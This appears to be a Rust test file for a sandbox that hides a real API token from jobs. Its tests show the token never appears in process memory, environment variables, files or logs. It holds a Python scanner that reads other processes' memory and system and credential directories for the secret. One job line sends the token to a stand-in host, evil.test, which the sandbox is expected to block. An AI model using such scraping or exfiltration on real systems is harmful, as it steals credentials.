//! The real token is nowhere in the jail. The job looks for it everywhere it can read, and finds what was planted there.

use std::collections::BTreeSet;

use nix::unistd::Pid;

use crate::support::{Jail, Place, Server, descendants, is_root, places, random};

/// Looks for each `NAME=FIRST:SECOND` of its input as FIRST followed by SECOND. It never holds the two together itself,
/// so that what it finds is not its own question.
const SEARCH: &str = r#"
import os, sys
sought = {}
for line in sys.stdin:
    name, halves = line.strip().split("=", 1)
    sought[name] = tuple(half.encode() for half in halves.split(":"))
found = set()

def look(place, data):
    for name, (first, second) in sought.items():
        position = data.find(first)
        while position >= 0:
            if data.startswith(second, position + len(first)):
                found.add((name, place))
            position = data.find(first, position + 1)

def look_at_file(place, path):
    try:
        with open(path, "rb") as file:
            look(place, file.read(4 << 20))
    except OSError:
        pass

def look_at_memory(process):
    try:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb") as memory:
            for line in maps:
                span, rights = line.split()[:2]
                start, end = (int(part, 16) for part in span.split("-"))
                # The rest is what files hold, and files are looked at themselves.
                if rights.startswith("rw") and end - start < 256 << 20:
                    try:
                        memory.seek(start)
                        look("memory", memory.read(end - start))
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass

processes = [name for name in os.listdir("/proc") if name.isdigit()]
for process in processes:
    for name in ("environ", "cmdline"):
        look_at_file(name, f"/proc/{process}/{name}")
    look_at_memory(process)
# Where the libraries of programs are, the host's own files are bound: nothing of a job is ever written there.
for directory in ("/home", "/tmp", "/etc", "/run", "/dev/shm", "/var", "/root", os.getcwd()):
    for root, directories, names in os.walk(directory):
        if root.startswith(("/proc", "/sys")):
            continue
        for name in names:
            look_at_file("file", os.path.join(root, name))
for name, place in sorted(found):
    print(f"found {name} in {place}")
print(f"searched {len(processes)} processes")
"#;

fn halves(name: &str, text: &str) -> String {
    let (first, second) = text.split_at(text.len() / 2);
    format!("{name}={first}:{second}\n")
}

#[test]
fn nothing_in_the_jail_holds_the_real_token() {
    needs!("curl", "python3");
    let (server, token, planted) = (Server::https("api.test"), random("sk-ant-oat01-"), random("planted-"));
    let jail = Jail::new()
        .host("curl")
        .host("python3")
        .allow("api.test")
        .upstream(&server)
        .secret("T", &token)
        .credential("T=env:T@api.test")
        // The positive control: the search finds what is there.
        .options(["--env", &format!("PLANTED={planted}")])
        .file("planted.txt", &planted)
        .file("search.py", SEARCH)
        .options(["-v"])
        .input(halves("token", &token) + &halves("planted", &planted));
    // The token has been used and has come back when the search begins.
    let ended = jail.script(
        r#"curl -sS -o answer.json -D answer.txt -H "authorization: Bearer $T" https://api.test/gzip
        exec python3 search.py"#,
    );
    ended.succeeds().swapped("T", "api.test:443");
    assert_eq!(server.last().header("authorization").unwrap(), format!("Bearer {token}"));
    for place in ["environ", "file", "memory"] {
        ended.prints(&format!("found planted in {place}\n"));
    }
    ended.never_prints("found token");
}

#[test]
fn nothing_of_the_job_s_processes_holds_the_real_token_seen_from_outside() {
    needs!("curl");
    let (server, token) = (Server::https("api.test"), random("sk-"));
    let jail = Jail::new()
        .host("curl")
        .allow("api.test")
        .upstream(&server)
        .secret("T", &token)
        .credential("T=env:T@api.test");
    let mut running = jail.start_script(
        r#"answer=$(curl -sS -H "authorization: Bearer $T" https://api.test/echo); echo "dummy=$T"; echo ready; read line"#,
    );
    running.wait_for("ready\n");
    let launcher = running.launcher();
    let processes: Vec<Pid> =
        descendants(launcher).into_iter().map(|(pid, _)| pid).filter(|pid| *pid != launcher).collect();
    assert_eq!(places(&token, &processes), BTreeSet::new());
    let output = String::from_utf8(running.stdout.so_far()).unwrap();
    let dummy = output.strip_prefix("dummy=").unwrap().lines().next().unwrap();
    assert_eq!(places(dummy, &processes), BTreeSet::from([Place::Environment, Place::Memory]));
    // The launcher has it: root sees it there, other processes of an ordinary user do not.
    let expected = if is_root() { Some(Place::Environment) } else { None };
    assert_eq!(places(&token, &[launcher]).first(), expected.as_ref());
    running.ends().fails().swapped("T", "api.test:443");
}

#[test]
fn the_launcher_says_nothing_of_it_however_much_it_says() {
    needs!("curl");
    let (server, token) = (Server::https("api.test"), random("sk-"));
    let jail = Jail::new().host("curl").allow("api.test").upstream(&server).secret("T", &token);
    let jail = jail.credential("T=env:T@api.test").options(["-v", "-v"]);
    let script = r#"curl -sS -H "authorization: Bearer $T" https://api.test/echo
        curl -sS -H "authorization: Bearer $T" https://evil.test/echo?key=$T
        curl -sS -H "authorization: Bearer other" https://api.test/echo"#;
    // That it is not in the output, the messages, the records: each end is searched for it.
    let ended = jail.script(script);
    ended
        .swapped("T", "api.test:443")
        .denied("evil.test:443", "host-not-allowed")
        .denied("api.test:443", "foreign-credential");
    assert!(ended.stderr.lines().count() > 1, "-vv says more than the summary{ended}");
    let record = std::fs::read_dir(jail.state().join("jobs")).unwrap().next().unwrap().unwrap().path();
    assert!(record.join("job.json").is_file() && record.join("audit.jsonl").is_file());
}
